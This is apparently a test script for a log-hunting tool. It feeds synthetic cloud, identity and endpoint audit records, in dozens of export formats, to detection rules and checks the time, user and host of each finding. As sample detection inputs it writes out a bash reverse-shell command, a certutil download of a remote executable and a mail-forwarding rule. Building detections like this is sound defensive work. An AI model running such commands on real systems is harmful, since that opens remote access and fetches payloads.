#!/usr/bin/env python3
"""Records of clouds and of sensors in the schemas and exports in which people hand them over: our own rules
find them, with their time."""
import base64
import json

from _breakwater import Checks, Sandbox

TIME = "2026-05-03T08:00:01Z"
TRAIL = {
    "eventVersion": "1.08", "eventTime": TIME, "eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging",
    "awsRegion": "us-east-1", "sourceIPAddress": "203.0.113.77", "userAgent": "aws-cli", "eventType": "AwsApiCall",
    "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::1:user/mallory", "userName": "mallory"},
    "requestParameters": {"name": "trail"}, "eventID": "e", "recipientAccountId": "1"}
NULLS = dict(TRAIL, errorCode=None, errorMessage=None, vpcEndpointId=None)
POLICY = "Delete conditional access policy"
SIGNIN = {
    "ResultType": "0", "UserPrincipalName": "alice@corp.example", "IPAddress": "203.0.113.77", "AppDisplayName": "Azure CLI",
    "AuthenticationProtocol": "deviceCode", "ConditionalAccessStatus": "success", "Location": "NO"}
ACTIVITY = {
    "OperationName": "Run Command on Virtual Machine", "OperationNameValue": "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION",
    "ActivityStatusValue": "Success", "CategoryValue": "Administrative", "Caller": "alice@corp.example", "CallerIpAddress": "203.0.113.77"}
SINK = {
    "serviceName": "logging.googleapis.com", "methodName": "google.logging.v2.ConfigServiceV2.DeleteSink",
    "authenticationInfo": {"principalEmail": "alice@corp.example"}, "requestMetadata": {"callerIp": "203.0.113.77"}}
REPORT = {
    "kind": "admin#reports#activity", "id": {"time": TIME, "applicationName": "admin"}, "actor": {"email": "alice@corp.example"},
    "ipAddress": "203.0.113.77"}
PODS = {
    "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "a", "stage": "ResponseComplete",
    "requestURI": "/api/v1/namespaces/default/pods/x/exec?command=sh", "verb": "create",
    "user": {"username": "system:anonymous"}, "sourceIPs": ["203.0.113.9"], "responseStatus": {"code": 101},
    "objectRef": {"resource": "pods", "namespace": "default", "name": "x", "subresource": "exec"},
    "requestReceivedTimestamp": TIME}
GRANT = {
    "actor": {"type": "User", "alternateId": "alice@corp.example"}, "eventType": "user.account.privilege.grant",
    "displayMessage": "Grant user privilege", "outcome": {"result": "SUCCESS"}, "published": TIME, "uuid": "u"}
RULE = {
    "CreationTime": TIME[:-1], "Id": "1", "Operation": "New-InboxRule", "RecordType": 1, "ResultStatus": "True",
    "Workload": "Exchange", "ClientIP": "203.0.113.77:443", "UserId": "alice@corp.example",
    "Parameters": [{"Name": "ForwardTo", "Value": "a@mail.example"}, {"Name": "Name", "Value": "."}]}
SHELL = "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"

DOWNLOAD = "certutil -urlcache -f http://203.0.113.9/a C:\\ProgramData\\a.exe"
DOWNLOADED = "System tool downloads a file from the Internet"

STOPPED = "CloudTrail stopped, deleted or narrowed"
REDIRECTED = "Shell redirected to a network address"
GRANTED = "Administrator's rights given in Okta"
FORWARDED = "Mailbox forwards all mail to an address"
FORWARDS = "Mailbox rule that forwards or hides mail"
ANONYMOUS = "Kubernetes answers somebody who did not log in"
WEAKENED = "Conditional access policy deleted or changed in Entra ID"
CODE = "Login by device code in Entra ID"
RAN = "Command run on a machine by Azure"
REMOVED = "Logging of Google Cloud removed or narrowed"
MADE = "Administrator made in Google Workspace"
UNPROTECTED = "Protection of code on GitHub removed"
ALERT = "Another product reports a serious alert"


def table(rows):
    return "".join(",".join('"' + str(c).replace('"', '""') + '"' for c in row) + "\r\n" for row in rows)


def la_tables(row):
    columns = [{"name": c, "type": "string"} for c in row]
    return json.dumps({"tables": [{"name": "PrimaryResult", "columns": columns, "rows": [list(row.values())] * 2}]})


def athena(row):
    cells = ({"Data": [{"VarCharValue": c} for c in line]} for line in (row, row.values()))
    return json.dumps({"UpdateCount": 0, "ResultSet": {"Rows": list(cells), "ResultSetMetadata": {"ColumnInfo": []}}}, indent=4)


# what Presto makes of a structure
ROOT = "{type=Root, principalid=1, arn=arn:aws:iam::1:root, accountid=1, username=null, sessioncontext={attributes=null}}"
LOGIN = {
    "eventtime": TIME, "eventsource": "signin.amazonaws.com", "eventname": "ConsoleLogin", "awsregion": "us-east-1",
    "useridentity": ROOT, "responseelements": json.dumps({"ConsoleLogin": "Success"})}

DIAGNOSTIC = {
    "time": TIME, "category": "AuditLogs", "operationName": POLICY, "properties": {
        "activityDisplayName": POLICY, "result": "success", "loggedByService": "Core Directory", "category": "Policy",
        "initiatedBy": {"user": {"userPrincipalName": "alice@corp.example"}}}}
LOGGED = {
    "timestamp": TIME, "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity",
    "protoPayload": {"@type": "type.googleapis.com/google.cloud.audit.AuditLog", **SINK}}
BATCH = json.dumps({"records": [DIAGNOSTIC, DIAGNOSTIC]})
LATER = "2026-05-03T08:00:09Z"


def base64_of(record):
    return base64.b64encode(json.dumps(record).encode()).decode()


SUBSCRIBED = json.dumps({
    "messageType": "DATA_MESSAGE", "owner": "1", "logGroup": "g", "logStream": "s", "subscriptionFilters": ["f"],
    "logEvents": [{"id": "1", "timestamp": 1777795209000, "message": json.dumps(TRAIL)}]})
FOUND = {
    "RunspaceId": "r", "RecordType": "ExchangeAdmin", "CreationDate": "/Date(1777795201000)/", "UserIds": "alice@corp.example",
    "Operations": "New-InboxRule", "AuditData": json.dumps(RULE), "ResultIndex": 1, "ResultCount": 1, "Identity": "i"}

FORMS = {
    "Event Hub's body as a text": ("hub.json", json.dumps([{"body": BATCH, "offset": "1"}]), WEAKENED),
    "Event Hub's body in base64": ("captured.json", json.dumps(
        {"EnqueuedTimeUtc": LATER, "Body": base64_of({"records": [DIAGNOSTIC]})}), WEAKENED),
    "Azure's records as one text": ("records-text.json", json.dumps({"records": json.dumps([DIAGNOSTIC])}), WEAKENED),
    "Azure's records, each a text": ("records-texts.json", json.dumps({"records": [json.dumps(DIAGNOSTIC)]}), WEAKENED),
    "Azure's records in a message": ("records-message.json", json.dumps({"@timestamp": LATER, "message": BATCH}), WEAKENED),
    "Pub/Sub, as it pushes": ("pushed.json", json.dumps(
        {"message": {"data": base64_of(LOGGED), "attributes": {"logging.googleapis.com/timestamp": TIME}, "messageId": "1",
                     "publishTime": LATER}, "subscription": "s"}), REMOVED),
    "Pub/Sub, as gcloud pulls": ("pulled.json", json.dumps(
        [{"ackId": "a", "message": {"data": base64_of(LOGGED), "publishTime": LATER}}] * 2, indent=2), REMOVED),
    "Pub/Sub's answer": ("received.json", json.dumps(
        {"receivedMessages": [{"ackId": "a", "message": {"data": base64_of(LOGGED), "publishTime": LATER}}]}), REMOVED),
    "EventBridge in SQS": ("sqs.json", json.dumps(
        {"Messages": [{"MessageId": "1", "ReceiptHandle": "h", "MD5OfBody": "m", "Body": json.dumps(
            {"version": "0", "detail-type": "AWS API Call via CloudTrail", "source": "aws.cloudtrail", "time": TIME, "detail": TRAIL})}]},
        indent=4), STOPPED),
    "CloudWatch's subscription by Firehose": ("firehose.json", SUBSCRIBED * 3, STOPPED),
    "filter-log-events": ("events.json", json.dumps(
        {"events": [{"logStreamName": "s", "timestamp": 1777795209000, "message": json.dumps(TRAIL)}], "searchedLogStreams": []},
        indent=4), STOPPED),
    "lookup-events": ("lookup.json", json.dumps(
        {"Events": [{"EventId": "e", "EventName": "StopLogging", "EventTime": LATER, "Username": "mallory", "Resources": [],
                     "CloudTrailEvent": json.dumps(TRAIL)}]}, indent=4), STOPPED),
    "Search-UnifiedAuditLog by ConvertTo-Json": ("ual.json", json.dumps([FOUND], indent=4), FORWARDS),
    "Search-UnifiedAuditLog by Export-Csv": ("ual.csv", table(
        [list(FOUND), [*list(FOUND.values())[:2], "5/3/2026 8:00:01 AM", *list(FOUND.values())[3:]]]), FORWARDS),
    "Log Analytics' tables of rows and columns": ("la-tables.json", la_tables({"TimeGenerated": TIME, **ACTIVITY}), RAN),
    "Athena's rows": ("athena.json", athena(LOGIN), "Login of the root account of AWS"),
    "CloudTrail Lake's rows": ("lake-rows.json", json.dumps(
        {"QueryStatus": "FINISHED", "QueryStatistics": {"ResultsCount": 1}, "QueryResultRows": [
            [{"eventTime": "2026-05-03 08:00:01.000"}, {"eventSource": TRAIL["eventSource"]}, {"eventName": "StopLogging"},
             {"awsRegion": "us-east-1"}, {"userIdentity": "{type=IAMUser, arn=arn:aws:iam::1:user/mallory, username=mallory}"}]]}), STOPPED),
    "Logs Insights' rows": ("insights-rows.json", json.dumps(
        {"results": [[{"field": "@timestamp", "value": "2026-05-03 08:00:09.000"}, {"field": "@message", "value": json.dumps(TRAIL)}]],
         "statistics": {"recordsMatched": 1.0}, "status": "Complete"}), STOPPED),
    "CloudTrail's files": ("s3.json", json.dumps({"Records": [TRAIL]}), STOPPED),
    "Logs Insights": ("insights.csv", table(
        [["@timestamp", "@message"]] + [["2026-05-03 08:00:09.000", json.dumps(TRAIL)]] * 2), STOPPED),
    "Splunk's table": ("splunk.csv", table(
        [["_time", "host", "_raw"]] + [["2026-05-03T08:00:09.000+0000", "x", json.dumps(TRAIL)]] * 2), STOPPED),
    "Event history": ("history.csv", table(
        [["User name", "Event time", "Event source", "Event name", "AWS region", "Source IP address", "Error code"]] +
        [["mallory", TIME, TRAIL["eventSource"], "StopLogging", "us-east-1", "203.0.113.77", ""]] * 2), STOPPED),
    "Security Lake": ("ocsf.json", json.dumps(
        {"class_uid": 6003, "time": 1777795201000, "metadata": {"product": {"name": "CloudTrail"}, "event_code": "AwsApiCall"},
         "api": {"operation": "StopLogging", "service": {"name": "cloudtrail.amazonaws.com"}},
         "actor": {"user": {"type": "IAMUser", "name": "mallory"}}, "src_endpoint": {"ip": "203.0.113.77"}}), STOPPED),
    "AKS": ("aks.json", json.dumps(
        {"category": "kube-audit", "time": "2026-05-03T08:00:09Z", "properties": {"log": json.dumps(PODS)}}), ANONYMOUS),
    "Kubernetes behind syslog": ("k8s.log", "May  3 08:00:09 k8s01 kube-apiserver[1]: " + json.dumps(PODS) + "\n", ANONYMOUS),
    "Okta's event hook": ("hook.json", json.dumps(
        {"eventType": "com.okta.event_hook", "eventTime": "2026-05-03T08:00:09Z", "data": {"events": [GRANT]}}), GRANTED),
    "Okta in Sentinel": ("okta.json", json.dumps(
        {"TimeGenerated": TIME, "eventType_s": GRANT["eventType"], "displayMessage_s": GRANT["displayMessage"],
         "outcome_result_s": "SUCCESS", "actor_alternateId_s": "alice@corp.example", "Type": "Okta_CL"}), GRANTED),
    "OfficeActivity": ("office.json", json.dumps(
        {"TimeGenerated": TIME, "Operation": "New-InboxRule", "OfficeWorkload": "Exchange", "RecordType": "ExchangeAdmin",
         "UserId": "alice@corp.example", "Parameters": json.dumps(RULE["Parameters"]), "Type": "OfficeActivity"}), FORWARDS),
    "Microsoft 365 in Wazuh": ("wazuh.json", json.dumps(
        {"timestamp": "2026-05-03T08:00:01.000+0000", "rule": {"level": 3}, "agent": {"id": "000", "name": "m"},
         "data": {"integration": "office365", "office365": RULE}, "location": "office365"}), FORWARDS),
    "Microsoft 365 of Filebeat": ("filebeat.json", json.dumps(
        {"@timestamp": "2026-05-03T08:00:01.000Z", "event": {"dataset": "o365.audit", "action": "New-InboxRule", "provider": "Exchange"},
         "o365": {"audit": dict(RULE, Parameters={"ForwardTo": "a@mail.example", "Name": "."})}}), FORWARDS),
    "Microsoft 365 out of Elasticsearch": ("elastic.json", json.dumps(
        {"_index": "filebeat-8", "_source": {"@timestamp": "2026-05-03T08:00:01.000Z", "event": {"dataset": "o365.audit"},
         "o365": {"audit": dict(RULE, Parameters={"ForwardTo": "a@mail.example", "Name": "."})}}}), FORWARDS),
    "Microsoft 365 out of an index": ("hits.json", json.dumps(
        {"_index": "m365", "_source": RULE}), FORWARDS),
    "CloudTrail with nulls for what it does not say": ("nulls.json", json.dumps(NULLS), STOPPED),
    "Security Lake with nulls": ("lake.json", json.dumps(
        {"class_uid": 6003, "time": 1777795201000, "metadata": {"product": {"name": "CloudTrail"}},
         "api": {"operation": "StopLogging", "service": {"name": "cloudtrail.amazonaws.com"}, "response": {"error": None, "message": None}},
         "actor": {"user": {"type": "IAMUser", "name": "mallory"}}, "src_endpoint": {"ip": "203.0.113.77"}}), STOPPED),
    "CloudTrail out of Log Analytics, whose columns are text": ("la-trail.json", json.dumps(
        {"TimeGenerated": TIME, "EventName": "ConsoleLogin", "EventSource": "signin.amazonaws.com", "SourceIpAddress": "203.0.113.77",
         "UserIdentityType": "Root", "AWSRegion": "us-east-1", "ResponseElements": json.dumps({"ConsoleLogin": "Success"}),
         "Type": "AWSCloudTrail"}), "Login of the root account of AWS"),
    "Entra's audit out of Log Analytics, whose columns are text": ("la-role.json", json.dumps(
        {"TimeGenerated": TIME, "OperationName": "Add member to role", "Category": "RoleManagement", "Result": "success",
         "TargetResources": json.dumps([{"modifiedProperties": [{"displayName": "Role.DisplayName", "newValue": '"Global Administrator"'}]}]),
         "Type": "AuditLogs"}), "Role of an administrator given in Entra ID"),
    "Entra's audit in the log of Microsoft 365": ("entra365.json", json.dumps(
        {"CreationTime": TIME[:-1], "Id": "2", "Operation": POLICY + ".", "RecordType": 8, "ResultStatus": "Success",
         "Workload": "AzureActiveDirectory", "UserId": "alice@corp.example", "AzureActiveDirectoryEventType": 1}), WEAKENED),
    "Entra's audit in the log of Microsoft 365 of Filebeat": ("entra-filebeat.json", json.dumps(
        {"@timestamp": TIME, "event": {"dataset": "o365.audit", "action": POLICY + ".", "provider": "AzureActiveDirectory"},
         "o365": {"audit": {"Operation": POLICY + ".", "Workload": "AzureActiveDirectory", "ResultStatus": "Success"}}}), WEAKENED),
    "Defender's table of applications": ("applications.csv", table(
        [["Timestamp", "ActionType", "Application", "AccountDisplayName", "IPAddress", "RawEventData"],
         [TIME, "New-InboxRule", "Microsoft Exchange Online", "Alice", "203.0.113.77", json.dumps(RULE)]]), FORWARDS),
    "Defender's table of applications, streamed": ("applications.json", json.dumps(
        {"time": TIME, "category": "AdvancedHunting-CloudAppEvents",
         "properties": {"Timestamp": TIME, "ActionType": "New-InboxRule", "RawEventData": RULE}}), FORWARDS),
    "Defender's table of sign-ins": ("signins.csv", table(
        [["Timestamp", "Application", "ApplicationId", "LogonType", "ErrorCode", "SessionId", "AccountUpn", "IPAddress", "Country",
          "RiskLevelDuringSignIn"],
         [TIME, "Office 365", "a", '["interactiveUser"]', "0", "s", "alice@corp.example", "203.0.113.77", "NO", "100"]]),
        "Sign-in that Entra ID takes for a stranger's succeeds"),
    "sign-ins out of Log Analytics without the table's name": ("la-signins.csv", table(
        [["TimeGenerated [UTC]", *SIGNIN], ["5/3/2026, 8:00:01.000 AM", *SIGNIN.values()]]), CODE),
    "Azure's activity out of Log Analytics without the table's name": ("la-activity.csv", table(
        [["TimeGenerated [UTC]", *ACTIVITY], ["5/3/2026, 8:00:01.000 AM", *ACTIVITY.values()]]), RAN),
    "Okta in Sentinel's newer table": ("oktav2.json", json.dumps(
        {"TimeGenerated": TIME, "EventOriginalType": GRANT["eventType"], "OriginalOutcomeResult": "SUCCESS",
         "ActorUsername": "alice@corp.example", "SrcIpAddr": "203.0.113.77", "Type": "OktaV2_CL"}), GRANTED),
    "Okta's console": ("okta.csv", table(
        [["severity", "event_type", "display_message", "uuid", "version", "timestamp", "outcome.result", "outcome.reason", "actor.id",
          "actor.type", "actor.display_name", "actor.alternate_id", "client.ip_address", "target0.id", "target0.display_name"],
         ["WARN", GRANT["eventType"], "Grant user privilege", "u", "0", TIME, "SUCCESS", "", "i", "User", "Alice",
          "alice@corp.example", "203.0.113.77", "t", "Bob"]]), GRANTED),
    "Entra's portal": ("portal.csv", table(
        [["Date (UTC)", "Request ID", "User agent", "User", "Username", "Incoming token type", "Authentication Protocol", "Application",
          "Application ID ", "IP address", "Location", "Status", "Sign-in error code", "Client app", "Incoming token type"],
         [TIME, "r", "a", "Alice", "alice@corp.example", "none", "Device Code", "Azure CLI", "04b07795-8ddb-461a-bbee-02f9e1bf7b46",
          "203.0.113.77", "Oslo, NO", "Success", "", "Browser", ""]]), CODE),
    "GitHub's download": ("github.csv", table(
        [["action", "actor", "user", "actor_location.country_code", "org", "repo", "created_at"],
         ["org.disable_two_factor_requirement", "alice", "", "NO", "corp", "", "1777795201000"]]), UNPROTECTED),
    "Google Cloud in BigQuery": ("bigquery.json", json.dumps(
        {"timestamp": "2026-05-03 08:00:01 UTC", "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity",
         "protopayload_auditlog": SINK}), REMOVED),
    "Google Cloud in Sentinel": ("gcp-sentinel.json", json.dumps(
        {"TimeGenerated": TIME, "MethodName": SINK["methodName"], "ServiceName": SINK["serviceName"], "GCPResourceName": "projects/p",
         "PrincipalEmail": "alice@corp.example", "Type": "GCPAuditLogs"}), REMOVED),
    "Google Workspace, each event by itself": ("report.json", json.dumps(
        {**REPORT, "name": "GRANT_ADMIN_PRIVILEGE", "type": "USER_SETTINGS", "parameters": {"USER_EMAIL": "x@corp.example"}}), MADE),
    "Google Workspace in Splunk": ("report-splunk.json", json.dumps(
        {**REPORT, "event": {"name": "GRANT_ADMIN_PRIVILEGE", "type": "USER_SETTINGS"}}), MADE),
    "Google Workspace by GAM": ("gam.csv", table(
        [["id.time", "id.applicationName", "actor.email", "ipAddress", "name", "type", "USER_EMAIL"],
         [TIME, "admin", "alice@corp.example", "203.0.113.77", "GRANT_ADMIN_PRIVILEGE", "USER_SETTINGS", "x@corp.example"]]), MADE),
    "GitHub in Sentinel": ("github-sentinel.json", json.dumps(
        {"TimeGenerated": TIME, "action_s": "org.disable_two_factor_requirement", "actor_s": "alice", "org_s": "corp"}), UNPROTECTED),
    "an alert in the log of Microsoft 365": ("alert365.json", json.dumps(
        {"CreationTime": TIME[:-1], "Id": "3", "Operation": "AlertTriggered", "RecordType": 40, "Workload": "SecurityComplianceCenter",
         "UserId": "SecurityComplianceAlerts", "AlertId": "a", "Name": "Suspicious email forwarding activity", "Severity": "High",
         "Category": "ThreatManagement", "Status": "Active"}), ALERT),
    "Cortex XDR's of Windows": ("cortex.json", json.dumps(
        {"_time": 1777795201000, "agent_hostname": "ws01", "action_process_image_path": "C:\\Windows\\System32\\certutil.exe",
         "action_process_image_command_line": DOWNLOAD, "actor_process_image_path": "C:\\Windows\\System32\\cmd.exe"}), DOWNLOADED),
    "Carbon Black's of Windows": ("carbon.json", json.dumps(
        {"type": "ingress.event.procstart", "timestamp": 1777795201, "computer_name": "ws01",
         "path": "c:\\windows\\system32\\certutil.exe", "command_line": DOWNLOAD, "parent_path": "c:\\windows\\system32\\cmd.exe"}), DOWNLOADED),
    "OCSF's processes": ("process.json", json.dumps(
        {"class_uid": 1007, "activity_id": 1, "time": 1777795201000, "device": {"hostname": "web01"},
         "process": {"file": {"path": "/usr/bin/bash"}, "cmd_line": SHELL,
                     "parent_process": {"file": {"path": "/usr/sbin/nginx"}}}}), REDIRECTED),
    "OCSF's processes of Windows": ("windows.json", json.dumps(
        {"class_uid": 1007, "activity_id": 1, "time": 1777795201000, "device": {"hostname": "ws01"},
         "process": {"file": {"path": "C:\\Windows\\System32\\certutil.exe"}, "cmd_line": DOWNLOAD}}), DOWNLOADED),
    "ASIM's processes of Windows": ("asim-windows.json", json.dumps(
        {"TimeGenerated": TIME, "EventType": "ProcessCreated", "DvcHostname": "ws01",
         "TargetProcessName": "C:\\Windows\\System32\\certutil.exe", "TargetProcessCommandLine": DOWNLOAD}), DOWNLOADED),
    "SentinelOne's of Windows": ("s1-windows.json", json.dumps(
        {"event.time": 1777795201000, "event.type": "Process Creation", "endpoint.name": "ws01",
         "tgt.process.image.path": "\\Device\\HarddiskVolume3\\Windows\\System32\\certutil.exe", "tgt.process.cmdline": DOWNLOAD}), DOWNLOADED),
    "ASIM's processes": ("asim.json", json.dumps(
        {"TimeGenerated": TIME, "EventType": "ProcessCreated", "DvcHostname": "web01", "TargetProcessName": "/usr/bin/bash",
         "TargetProcessCommandLine": SHELL, "ActingProcessName": "/usr/sbin/nginx"}), REDIRECTED),
    "SentinelOne": ("s1.json", json.dumps(
        {"event.time": 1777795201000, "event.type": "Process Creation", "endpoint.name": "web01",
         "tgt.process.image.path": "/usr/bin/bash", "tgt.process.cmdline": SHELL,
         "src.process.image.path": "/usr/sbin/nginx"}), REDIRECTED),
}

# whom a finding names
ALICE = "alice@corp.example"
USERS = {
    "Okta's console": ALICE, "Entra's portal": "Alice", "GitHub's download": "alice",
    "Log Analytics' tables of rows and columns": ALICE, "CloudTrail Lake's rows": "mallory", "Logs Insights' rows": "mallory",
    "CloudTrail's files": "mallory", "Event history": "mallory", "Security Lake": "mallory", "Okta's event hook": ALICE, "Okta in Sentinel": ALICE,
    "OfficeActivity": ALICE, "Entra's audit in the log of Microsoft 365": ALICE, "Defender's table of sign-ins": ALICE,
    "sign-ins out of Log Analytics without the table's name": ALICE, "Azure's activity out of Log Analytics without the table's name": ALICE,
    "Okta in Sentinel's newer table": ALICE, "Google Cloud in BigQuery": ALICE, "Google Cloud in Sentinel": ALICE,
    "Google Workspace, each event by itself": ALICE, "Google Workspace in Splunk": ALICE, "Google Workspace by GAM": ALICE,
    "GitHub in Sentinel": "alice", "Kubernetes behind syslog": "system:anonymous"}


def main():
    checks = Checks()
    sandbox = Sandbox()
    for form, (name, content, title) in FORMS.items():
        sandbox.file("logs/" + name, content.encode())
        run = sandbox.run("hunt", "logs/" + name, "-q", "--json", "--assume-year=2026")
        found = [f for f in map(json.loads, run.out.splitlines()) if f["rule"]["name"] == title]
        checks.check(f"{form}: {title}", bool(found), run)
        checks.check(f"{form}: time", all(f.get("@timestamp", "").startswith("2026-05-03T08:00:01") for f in found), run)
        if form in USERS:
            checks.check(f"{form}: user", all(f.get("user") == {"name": USERS[form]} for f in found), run)
        if title == REDIRECTED:
            checks.check(f"{form}: host", all(f["host"]["name"] == "web01" for f in found), run)
    # which of the values is the new one stands only in their names
    # and of Microsoft 365's parameters, which address is that of whom
    for name, found in (("ForwardingSmtpAddress", 1), ("Identity", 0)):
        forward = dict(RULE, Operation="Set-Mailbox", Parameters=[{"Name": name, "Value": "a@mail.example"}, {"Name": "DeliverToMailboxAndForward", "Value": "True"}])
        for form, record in (("a record", forward), ("a search", dict(FOUND, AuditData=json.dumps(forward)))):
            sandbox.file("logs/forward.json", json.dumps(record).encode())
            run = sandbox.run("hunt", "logs/forward.json", "-q", "--json")
            rules = [json.loads(line)["rule"]["name"] for line in run.out.splitlines()]
            checks.check(f"{form}: {name}", rules.count(FORWARDED) == found, run)
    for new, old, found in (("false", "true", 1), ("true", "false", 0)):
        parameters = [{"name": "NEW_VALUE", "value": new}, {"name": "OLD_VALUE", "value": old}]
        sandbox.file("logs/enforced.json", json.dumps(
            {**REPORT, "events": [{"type": "SECURITY_SETTINGS", "name": "ENFORCE_STRONG_AUTHENTICATION", "parameters": parameters}]}).encode())
        run = sandbox.run("hunt", "logs/enforced.json", "-q", "--json")
        checks.check(f"second factor asked for: {new}, was {old}", len(run.out.splitlines()) == found, run)
    checks.exit()


main()
